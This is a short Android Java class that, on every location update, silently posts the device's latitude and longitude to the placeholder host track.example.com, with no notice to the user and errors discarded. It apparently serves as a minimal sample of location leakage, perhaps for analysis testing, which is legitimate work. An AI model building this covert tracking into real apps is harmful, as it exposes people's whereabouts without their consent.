package p;

import android.location.Location;
import android.os.Bundle;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

public class Main extends Follower {
    private final ExecutorService pool = Executors.newFixedThreadPool(2);

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        follow();
    }

    @Override
    public void onLocationChanged(Location location) {
        double latitude = location.getLatitude();
        double longitude = location.getLongitude();
        pool.submit(() -> upload(latitude, longitude));
    }

    private static void upload(double latitude, double longitude) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://track.example.com/").openConnection();
            connection.setDoOutput(true);
            DataOutputStream out = new DataOutputStream(connection.getOutputStream());
            out.writeDouble(latitude);
            out.writeDouble(longitude);
            connection.getResponseCode();
        } catch (IOException error) {
            return;
        }
    }
}
